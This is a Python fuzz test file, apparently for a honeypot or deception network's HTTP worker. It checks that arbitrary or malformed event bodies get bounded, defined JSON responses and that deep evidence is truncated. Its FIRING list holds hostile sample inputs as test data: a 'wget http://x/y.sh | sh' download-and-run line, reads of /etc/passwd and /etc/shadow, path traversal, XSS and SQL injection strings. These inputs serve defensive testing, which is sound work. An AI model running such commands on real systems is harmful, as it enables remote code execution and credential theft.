"""Hypothesis-driven bodies against a real worker: whatever arrives, the answer is a
bounded JSON document with a defined status, never a 500, and the worker keeps serving.

Responses are read with the standard library's JSON (exact big integers).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from decnet.swarm.http.limits import HttpLimits
from tests.swarm.http.serving import JSON, copy_rules, serving

LIMITS = HttpLimits(max_response_bytes=64 * 1024, max_events=50)
KINDS = ["command", "http_request", "auth_attempt", "payload", "email"]
FIELDS = ["command_text", "raw_url", "username", "payload_text", "subject", "user", "uid",
          "src", "pwd", "command_id"]
FIRING = ["uname -a", "cat /etc/passwd", "wget http://x/y.sh | sh", "/etc/shadow", "admin",
          "../../etc/passwd", "<script>alert(1)</script>", "' OR 1=1 --"]

scalars = (st.none() | st.booleans() | st.integers(min_value=-(2**80), max_value=2**80)
           | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=40)
           | st.sampled_from(FIRING))
json_values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                           max_leaves=20)
events = st.fixed_dictionaries(
    {"source_kind": st.sampled_from(KINDS) | st.text(max_size=10),
     "source_id": st.text(min_size=1, max_size=20) | st.integers(min_value=0, max_value=2**70),
     "payload": st.dictionaries(st.sampled_from(FIELDS) | st.text(max_size=8), json_values,
                                max_size=5)},
    optional={"src_ip": json_values, "session_id": json_values, "sensor": json_values,
              "timestamp": json_values, "attacker_uuid": json_values})
any_json = st.one_of(events, st.lists(events | json_values, max_size=60), json_values)


def nested(depth: int, leaf: str = '"uname -a"') -> str:
    return "[" * depth + leaf + "]" * depth


@st.composite
def raw_bodies(draw: st.DrawFn) -> bytes:
    """Bodies no JSON encoder would write: nesting, lone surrogates, other encodings."""
    kind = draw(st.sampled_from(["deep", "evidence", "surrogate", "encoding", "bytes"]))
    if kind == "deep":
        return nested(draw(st.integers(1, 3000))).encode()
    if kind == "evidence":
        depth = draw(st.integers(200, 900))
        return (f'[{{"source_kind":"command","source_id":"d","payload":'
                f'{{"command_text":"uname -a","user":{nested(depth, "1")}}}}}]').encode()
    if kind == "surrogate":
        text = draw(st.sampled_from(["\\ud800", "\\udfff uname -a", "uname -a \\ud83d"]))
        return (f'{{"source_kind":"command","source_id":"s","payload":'
                f'{{"command_text":"{text}","user":"{text}"}}}}').encode()
    if kind == "encoding":
        text = json.dumps(draw(any_json), ensure_ascii=False)
        codec = draw(st.sampled_from(["utf-16", "utf-32", "utf-8-sig", "latin-1"]))
        return text.encode(codec, errors="replace")
    return draw(st.binary(max_size=200))


def encode(value: Any) -> bytes:
    return json.dumps(value).encode()  # exact integers past 64 bits


def check(client: httpx.Client, body: bytes) -> None:
    response = client.post("/events", content=body, headers=JSON)
    assert response.status_code in {200, 207, 400, 413, 422}, response.text[:300]
    document = json.loads(response.content)
    try:
        sent = json.loads(body.decode("utf-8"))
    except (ValueError, RecursionError):
        sent = None
    events_sent = len(sent) if isinstance(sent, list) else 1
    assert len(response.content) <= LIMITS.response_bound(events_sent)
    if response.status_code == 200:
        assert isinstance(document, list)
        assert all(isinstance(tag, dict) and "rule_id" in tag for tag in document)
    elif response.status_code == 207:
        assert set(document) == {"tags", "errors", "truncated"}
        indices = [entry["index"] for entry in document["errors"]]
        assert len(indices) == len(set(indices))
        assert all(0 <= i < events_sent for i in indices)
        assert response.headers["X-Decnet-TTP-Event-Errors"] == str(len(indices))
    else:
        assert isinstance(document["error"], str)


def test_fuzzed_bodies_get_a_bounded_defined_answer(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with serving(copy_rules(tmp_path), capsys, LIMITS) as url, \
            httpx.Client(base_url=url, timeout=60) as client:

        @settings(max_examples=120, deadline=None, derandomize=True,
                  suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
        @given(st.one_of(any_json.map(encode), raw_bodies()))
        def fuzz(body: bytes) -> None:
            check(client, body)

        fuzz()
        assert client.get("/healthz").status_code == 200


def test_big_integers_keep_their_exact_value_and_deep_evidence_is_cut(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    big = 2**64 + 1
    deep: Any = 1
    for _ in range(300):
        deep = [deep]
    events = [{"source_kind": "command", "source_id": "big",
               "payload": {"command_text": "uname -a", "user": big}},
              {"source_kind": "command", "source_id": "deep",
               "payload": {"command_text": "uname -a", "user": deep}},
              {"source_kind": "command", "source_id": "plain",
               "payload": {"command_text": "uname -a"}}]
    with serving(copy_rules(tmp_path, ["R0001.yaml"]), capsys, LIMITS) as url, \
            httpx.Client(base_url=url) as client:
        response = client.post("/events", content=encode(events), headers=JSON)
        assert response.status_code == 200, response.text[:300]
        tags = {t["source_id"]: t for t in json.loads(response.content)}
        assert tags["big"]["evidence"]["user"] == big
        assert "evidence_truncated" not in tags["big"]
        assert tags["deep"]["evidence_truncated"] is True
        assert "nested deeper than" in json.dumps(tags["deep"]["evidence"]["user"])
        assert "plain" in tags


def test_evidence_nested_past_any_encoder_costs_only_itself(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    too_deep = nested(950, "1")
    body = ('[{"source_kind":"command","source_id":"deep","payload":{"command_text":"uname -a",'
            f'"user":{too_deep}}}}},'
            '{"source_kind":"command","source_id":"plain","payload":{"command_text":"uname -a"}}]')
    with serving(copy_rules(tmp_path, ["R0001.yaml"]), capsys, LIMITS) as url, \
            httpx.Client(base_url=url) as client:
        response = client.post("/events", content=body.encode(), headers=JSON)
        assert response.status_code in (200, 207), response.text[:300]
        document = json.loads(response.content)
        tags = document if isinstance(document, list) else document["tags"]
        assert {t["source_id"] for t in tags} >= {"plain"}
        assert all(t.get("evidence_truncated") for t in tags if t["source_id"] == "deep")
